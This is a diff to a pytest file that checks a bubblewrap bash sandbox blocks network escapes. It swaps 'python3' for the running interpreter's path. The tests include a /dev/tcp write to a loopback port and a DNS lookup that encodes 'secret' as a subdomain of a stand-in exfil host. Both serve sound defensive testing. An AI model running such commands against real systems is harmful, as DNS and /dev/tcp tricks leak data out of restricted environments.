@@ -5,8 +5,10 @@ sandbox denial."""
 from __future__ import annotations
 
 import os
+import shlex
 import socket
 import subprocess
+import sys
 import threading
 import time
 from collections.abc import Iterator
@@ -19,6 +21,7 @@ from sandbox_harness import SandboxedBash, bwrap_works
 pytestmark = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap cannot create namespaces here")
 
 DENIAL = "[Sandbox denial:"
+PY = shlex.quote(sys.executable)  # not a PATH shim (pyenv's writes to its own root, read-only inside)
 
 
 @pytest.fixture
@@ -176,7 +179,7 @@ def test_a_loopback_server_on_the_host_is_not_reachable(bash: SandboxedBash) -> 
     t.start()
     try:
         _denied(bash(f"echo data > /dev/tcp/127.0.0.1/{port}"))
-        _denied(bash(f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\""))
+        _denied(bash(f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\""))
     finally:
         t.join()
         server.close()
@@ -185,7 +188,7 @@ def test_a_loopback_server_on_the_host_is_not_reachable(bash: SandboxedBash) -> 
 
 def test_a_name_lookup_carries_nothing_out_with_network_off(bash: SandboxedBash) -> None:
     _denied(bash("getent hosts c2VjcmV0.exfil.example.com"))
-    _denied(bash("python3 -c \"import socket; socket.getaddrinfo('c2VjcmV0.exfil.example.com', 80)\""))
+    _denied(bash(f"{PY} -c \"import socket; socket.getaddrinfo('c2VjcmV0.exfil.example.com', 80)\""))
 
 
 def test_no_descriptor_beyond_stdio_is_inherited(bash: SandboxedBash) -> None:
